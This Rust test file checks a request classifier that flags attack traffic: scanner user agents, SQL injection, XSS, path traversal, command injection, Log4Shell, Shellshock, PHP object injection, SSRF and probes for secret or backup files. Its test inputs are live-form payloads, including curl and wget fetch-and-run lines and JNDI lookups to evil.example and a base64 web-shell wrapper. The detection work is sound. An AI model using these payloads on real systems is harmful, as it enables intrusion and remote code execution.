//! Security issues: scanner user agents, injection payloads, leaked-file probes.

use super::fixtures::*;

const SQL: &str = "classifier.sql-injection";
const XSS: &str = "classifier.xss";
const TRAVERSAL: &str = "classifier.path-traversal";
const COMMAND: &str = "classifier.command-injection";
const SECRET: &str = "classifier.secret-file-probe";
const BACKUP: &str = "classifier.backup-file-probe";

// Scanner user agents.

#[test]
fn sqlmap_is_a_scanner() {
    assert_opinion(
        bot("sqlmap/1.7.8#stable (https://sqlmap.org)"),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn nikto_is_a_scanner() {
    assert_opinion(
        bot("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn nuclei_behind_a_chrome_user_agent_is_a_scanner() {
    assert_opinion(
        get("/").browser().ua("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn zgrab_is_a_scanner() {
    assert_opinion(
        bot("Mozilla/5.0 zgrab/0.x"),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn masscan_is_a_scanner() {
    assert_opinion(
        bot("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn wpscan_is_a_scanner() {
    assert_opinion(
        bot("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn gobuster_is_a_scanner() {
    assert_opinion(bot("gobuster/3.6"), SecurityIssues, "classifier.scanner");
}

#[test]
fn scanner_hidden_behind_many_crawler_names_is_a_scanner() {
    assert_opinion(
        bot(
            "Googlebot/2.1 bingbot/2.0 YandexBot/3.0 Baiduspider/2.0 DuckDuckBot/1.1 Applebot/0.1 AhrefsBot/7.0 SemrushBot/7 MJ12bot/1.4 UptimeRobot/2.0 sqlmap/1.7.8",
        ),
        SecurityIssues,
        "classifier.scanner",
    );
}

#[test]
fn scanner_confidence_is_95() {
    assert_eq!(
        confidence(bot("sqlmap/1.7.8#stable (https://sqlmap.org)")),
        95
    );
}

#[test]
fn scanner_with_a_valid_pass_is_still_a_scanner() {
    assert_opinion(
        bot("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
            .challenge(ChallengePass::Valid),
        SecurityIssues,
        "classifier.scanner",
    );
}

// SQL injection.

#[test]
fn union_select_in_query_is_sql_injection() {
    assert_opinion(
        chrome("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users"),
        SecurityIssues,
        SQL,
    );
}

#[test]
fn quoted_tautology_is_sql_injection() {
    assert_opinion(
        chrome("/login?user=admin%27%20or%20%271%27%3D%271"),
        SecurityIssues,
        SQL,
    );
}

#[test]
fn numeric_tautology_with_comment_is_sql_injection() {
    assert_opinion(chrome("/item?id=5%20or%201=1--"), SecurityIssues, SQL);
}

#[test]
fn time_based_sleep_is_sql_injection() {
    assert_opinion(chrome("/item?id=1%20AND%20SLEEP(5)"), SecurityIssues, SQL);
}

#[test]
fn benchmark_is_sql_injection() {
    assert_opinion(
        chrome("/item?id=1+and+benchmark(10000000,md5(1))"),
        SecurityIssues,
        SQL,
    );
}

#[test]
fn information_schema_is_sql_injection() {
    assert_opinion(
        chrome("/item?cat=(select%20count(*)%20from%20information_schema.columns)"),
        SecurityIssues,
        SQL,
    );
}

#[test]
fn xp_cmdshell_is_sql_injection() {
    assert_opinion(
        chrome("/search?q=%27;exec%20master..xp_cmdshell%20%27dir%27--"),
        SecurityIssues,
        SQL,
    );
}

#[test]
fn union_select_load_file_in_path_is_sql_injection() {
    assert_opinion(
        chrome("/news/1%20union%20select%20load_file(0x2f6574632f706173737764)"),
        SecurityIssues,
        SQL,
    );
}

// Cross-site scripting.

#[test]
fn script_tag_in_query_is_xss() {
    assert_opinion(
        chrome("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        SecurityIssues,
        XSS,
    );
}

#[test]
fn javascript_url_is_xss() {
    assert_opinion(
        chrome("/redirect?url=javascript:alert(document.cookie)"),
        SecurityIssues,
        XSS,
    );
}

#[test]
fn onerror_handler_is_xss() {
    assert_opinion(
        chrome("/profile?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        SecurityIssues,
        XSS,
    );
}

#[test]
fn svg_onload_is_xss() {
    assert_opinion(
        chrome("/search?q=%3Csvg/onload=alert(1)%3E"),
        SecurityIssues,
        XSS,
    );
}

#[test]
fn attribute_breakout_with_onload_is_xss() {
    assert_opinion(
        chrome("/search?q=%22%20onload%3D%22alert(1)"),
        SecurityIssues,
        XSS,
    );
}

// Path traversal.

#[test]
fn dot_dot_segments_in_path_are_traversal() {
    assert_opinion(
        get("/static/..%2f..%2f..%2f..%2fetc/passwd").machine("curl/8.5.0"),
        SecurityIssues,
        TRAVERSAL,
    );
}

#[test]
fn traversal_in_query_is_traversal() {
    assert_opinion(
        chrome("/download?file=../../../../etc/passwd"),
        SecurityIssues,
        TRAVERSAL,
    );
}

#[test]
fn windows_traversal_to_win_ini_is_traversal() {
    assert_opinion(
        chrome("/download?file=..%5c..%5cwindows%5cwin.ini"),
        SecurityIssues,
        TRAVERSAL,
    );
}

#[test]
fn etc_passwd_as_parameter_is_traversal() {
    assert_opinion(chrome("/view?page=/etc/passwd"), SecurityIssues, TRAVERSAL);
}

#[test]
fn double_encoded_traversal_is_found_with_95() {
    let req = chrome("/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd");
    assert_eq!(confidence(req.clone()), 95);
    assert_opinion(req, SecurityIssues, TRAVERSAL);
}

#[test]
fn double_encoded_script_tag_is_xss() {
    assert_opinion(
        chrome("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        SecurityIssues,
        XSS,
    );
}

// Command injection.

#[test]
fn semicolon_wget_is_command_injection() {
    assert_opinion(
        chrome("/ping?host=127.0.0.1;wget%20http://evil.example/x.sh"),
        SecurityIssues,
        COMMAND,
    );
}

#[test]
fn pipe_curl_is_command_injection() {
    assert_opinion(
        chrome("/ping?host=1.1.1.1|curl%20http://evil.example/a|sh"),
        SecurityIssues,
        COMMAND,
    );
}

#[test]
fn dollar_paren_subshell_is_command_injection() {
    assert_opinion(chrome("/greet?name=$(id)"), SecurityIssues, COMMAND);
}

#[test]
fn backtick_subshell_is_command_injection() {
    assert_opinion(chrome("/greet?name=%60whoami%60"), SecurityIssues, COMMAND);
}

// Log4Shell, shellshock, template injection, stream wrappers, SSRF, NUL.

#[test]
fn log4shell_in_query_is_log4shell() {
    assert_opinion(
        chrome("/?x=$%7Bjndi:ldap://evil.example/a%7D"),
        SecurityIssues,
        "classifier.log4shell",
    );
}

#[test]
fn log4shell_in_user_agent_is_log4shell() {
    assert_opinion(
        get("/").ua("${jndi:ldap://evil.example:1389/Exploit}"),
        SecurityIssues,
        "classifier.log4shell",
    );
}

#[test]
fn obfuscated_log4shell_in_referer_is_log4shell() {
    assert_opinion(
        chrome("/").header("referer", "${${lower:j}${upper:n}di:ldap://evil.example/a}"),
        SecurityIssues,
        "classifier.log4shell",
    );
}

#[test]
fn shellshock_user_agent_is_shellshock() {
    assert_opinion(
        get("/cgi-bin/status").ua("() { :; }; /bin/bash -c 'wget http://evil.example/x'"),
        SecurityIssues,
        "classifier.shellshock",
    );
}

// Moved from the Joomla rule set: the payload rides on any path, so a scoped rule set
// could not see it.
#[test]
fn session_object_injection_cve_2015_8562_is_an_attack() {
    assert_opinion(
        get("/").ua(r#"}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\0\0\0disconnectHandlers";a:1:{}}"#),
        SecurityIssues,
        "classifier.php-object-injection",
    );
}

#[test]
fn object_injection_in_x_forwarded_for_is_an_attack() {
    let req = chrome("/index.php").header(
        "x-forwarded-for",
        r#"}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\0\0\0disconnectHandlers";a:1:{}}"#,
    );
    assert_eq!(confidence(req.clone()), 95);
    assert_opinion(req, SecurityIssues, "classifier.php-object-injection");
}

#[test]
fn jinja_arithmetic_is_template_injection() {
    assert_opinion(
        chrome("/hello?name=%7B%7B7*7%7D%7D"),
        SecurityIssues,
        "classifier.template-injection",
    );
}

#[test]
fn jinja_config_access_is_template_injection() {
    assert_opinion(
        chrome("/hello?name={{config.items()}}"),
        SecurityIssues,
        "classifier.template-injection",
    );
}

#[test]
fn php_filter_wrapper_is_a_stream_wrapper() {
    assert_opinion(
        chrome("/index.php?page=php://filter/convert.base64-encode/resource=index"),
        SecurityIssues,
        "classifier.stream-wrapper",
    );
}

#[test]
fn data_wrapper_is_a_stream_wrapper() {
    assert_opinion(
        chrome("/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
        SecurityIssues,
        "classifier.stream-wrapper",
    );
}

#[test]
fn expect_wrapper_is_a_stream_wrapper() {
    assert_opinion(
        chrome("/index.php?page=expect://id"),
        SecurityIssues,
        "classifier.stream-wrapper",
    );
}

#[test]
fn cloud_metadata_url_is_ssrf() {
    assert_opinion(
        chrome("/fetch?url=http://169.254.169.254/latest/meta-data/iam/"),
        SecurityIssues,
        "classifier.ssrf-metadata",
    );
}

#[test]
fn null_byte_in_query_is_flagged() {
    assert_opinion(
        chrome("/download?file=report.pdf%00.php"),
        SecurityIssues,
        "classifier.null-byte",
    );
}

// Leaked-file probes.

#[test]
fn dot_env_probe() {
    assert_opinion(get("/.env").machine("Mozilla/5.0"), SecurityIssues, SECRET);
}

#[test]
fn dot_env_production_probe() {
    assert_opinion(chrome("/api/.env.production"), SecurityIssues, SECRET);
}

#[test]
fn git_config_probe() {
    assert_opinion(
        chrome("/.git/config"),
        SecurityIssues,
        "classifier.vcs-probe",
    );
}

#[test]
fn svn_entries_probe() {
    assert_opinion(
        chrome("/.svn/entries"),
        SecurityIssues,
        "classifier.vcs-probe",
    );
}

#[test]
fn mercurial_probe() {
    assert_opinion(chrome("/.hg/hgrc"), SecurityIssues, "classifier.vcs-probe");
}

#[test]
fn ds_store_probe() {
    assert_opinion(chrome("/.DS_Store"), SecurityIssues, SECRET);
}

#[test]
fn aws_credentials_probe() {
    assert_opinion(chrome("/.aws/credentials"), SecurityIssues, SECRET);
}

#[test]
fn ssh_private_key_probe() {
    assert_opinion(chrome("/home/deploy/id_rsa"), SecurityIssues, SECRET);
}

#[test]
fn htpasswd_probe() {
    assert_opinion(chrome("/admin/.htpasswd"), SecurityIssues, SECRET);
}

#[test]
fn htaccess_probe() {
    assert_opinion(chrome("/.htaccess"), SecurityIssues, SECRET);
}

#[test]
fn wp_config_backup_probe() {
    assert_opinion(chrome("/wp-config.php.bak"), SecurityIssues, SECRET);
}

#[test]
fn phpinfo_probe() {
    assert_opinion(
        chrome("/phpinfo.php"),
        SecurityIssues,
        "classifier.debug-endpoint-probe",
    );
}

#[test]
fn server_status_probe() {
    assert_opinion(
        chrome("/server-status"),
        SecurityIssues,
        "classifier.debug-endpoint-probe",
    );
}

#[test]
fn spring_actuator_env_probe() {
    assert_opinion(
        chrome("/actuator/env"),
        SecurityIssues,
        "classifier.debug-endpoint-probe",
    );
}

#[test]
fn phpunit_eval_stdin_probe() {
    assert_opinion(
        post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php").machine("Mozilla/5.0"),
        SecurityIssues,
        "classifier.debug-endpoint-probe",
    );
}

#[test]
fn sql_dump_probe() {
    assert_opinion(chrome("/backup.sql"), SecurityIssues, BACKUP);
}

#[test]
fn compressed_sql_dump_probe() {
    assert_opinion(chrome("/db/dump.sql.gz"), SecurityIssues, BACKUP);
}

#[test]
fn bak_copy_probe() {
    assert_opinion(chrome("/index.php.bak"), SecurityIssues, BACKUP);
}

#[test]
fn old_copy_probe() {
    assert_opinion(chrome("/config.php.old"), SecurityIssues, BACKUP);
}

#[test]
fn vim_swap_file_probe() {
    assert_opinion(chrome("/.index.php.swp"), SecurityIssues, BACKUP);
}

#[test]
fn editor_tilde_backup_probe() {
    assert_opinion(chrome("/config.inc.php~"), SecurityIssues, BACKUP);
}

#[test]
fn site_archive_probe() {
    assert_opinion(chrome("/backup.tar.gz"), SecurityIssues, BACKUP);
}

#[test]
fn archive_named_after_the_host_probe() {
    assert_opinion(chrome("/example.com.zip"), SecurityIssues, BACKUP);
}

#[test]
fn verified_googlebot_fetching_an_injection_link_is_still_security() {
    assert_opinion(
        get("/item?id=1%20union%20select%20password%20from%20users")
            .machine("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
            .crawler(CrawlerVerification::VerifiedSearchEngine),
        SecurityIssues,
        SQL,
    );
}
